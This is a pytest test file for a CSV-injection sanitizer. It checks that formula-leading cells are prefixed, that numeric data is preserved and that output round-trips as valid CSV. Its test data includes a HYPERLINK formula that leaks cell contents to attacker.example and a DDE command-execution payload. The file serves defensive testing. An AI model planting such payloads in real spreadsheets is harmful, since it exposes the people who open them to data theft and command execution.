"""Tests for querygap.safe_csv (CSV injection, OWASP ASVS 1.2.10 / CWE-1236; RFC 4180)."""

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from querygap.safe_csv import neutralize_cell, neutralize_frame, write_csv

# Attack strings of the kinds the OWASP CSV injection page describes.
ATTACKS = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "=1+1",
]
HARMLESS = ["sofa", " =1", "a=b", "'quoted", "", "1-2", "e@mail"]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_prefixed(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_unchanged(value: str) -> None:
    assert neutralize_cell(value) == value


def test_frame_touches_text_columns_only() -> None:
    df = pd.DataFrame(
        {
            "query": ATTACKS[:3] + ["ok"],
            "count": [-1, 2, -3, 4],
            "score": [-0.5, 0.1, np.nan, 1.0],
            "mixed": ["-x", None, 5, np.nan],
            "kind": pd.Categorical(["=a", "b", "=a", "c"]),
            "=header": ["x", "y", "z", "w"],
        },
        index=[7, 8, 9, 10],
    )
    out = neutralize_frame(df)
    assert out["query"].tolist() == ["'" + v for v in ATTACKS[:3]] + ["ok"]
    assert out["count"].tolist() == [-1, 2, -3, 4]
    assert out["count"].dtype == df["count"].dtype
    assert out["score"].equals(df["score"])
    assert out["mixed"].tolist()[:3] == ["'-x", None, 5]
    assert pd.isna(out["mixed"].iloc[3])
    assert out["kind"].tolist() == ["'=a", "b", "'=a", "c"]
    assert list(out.columns) == ["query", "count", "score", "mixed", "kind", "'=header"]
    assert out.index.tolist() == [7, 8, 9, 10]
    assert df["query"].tolist()[0] == ATTACKS[0]  # the input is not modified


def test_frame_with_pandas_string_dtype() -> None:
    df = pd.DataFrame({"q": pd.Series(["=1", pd.NA, "x"], dtype="string")})
    out = neutralize_frame(df)
    assert out["q"].iloc[0] == "'=1"
    assert pd.isna(out["q"].iloc[1])
    assert out["q"].iloc[2] == "x"


def test_write_csv_format(tmp_path: Path) -> None:
    df = pd.DataFrame({"query": ['say "hi", then\nleave', "=1"], "n": [-3, 4]}, index=[5, 6])
    path = write_csv(df, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw == b'query,n\r\n"say ""hi"", then\nleave",-3\r\n\'=1,4\r\n'
    assert not (tmp_path / "out.csv.partial").exists()


def test_round_trip_keeps_values(tmp_path: Path) -> None:
    queries = [*ATTACKS, *HARMLESS, 'comma, "quote"', "line\nbreak", "crlf\r\ninside", "café ✓"]
    df = pd.DataFrame({"query": queries, "searches": range(-5, len(queries) - 5)})
    path = write_csv(df, tmp_path / "r.csv")
    back = pd.read_csv(path, dtype={"query": str}, keep_default_na=False, encoding="utf-8")
    expected = [neutralize_cell(q) for q in queries]
    assert back["query"].tolist() == expected
    assert back["searches"].tolist() == df["searches"].tolist()
    # The standard library's csv reader (RFC 4180 dialect) agrees.
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows[1:]] == expected


cell_text = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)


@settings(max_examples=100, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(cell_text, min_size=1, max_size=10))
def test_round_trip_property(tmp_path: Path, values: list[str]) -> None:
    path = write_csv(pd.DataFrame({"q": values}), tmp_path / "p.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    back = [row[0] if row else "" for row in rows[1:]]
    assert back == [neutralize_cell(v) for v in values]
    for cell in back:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
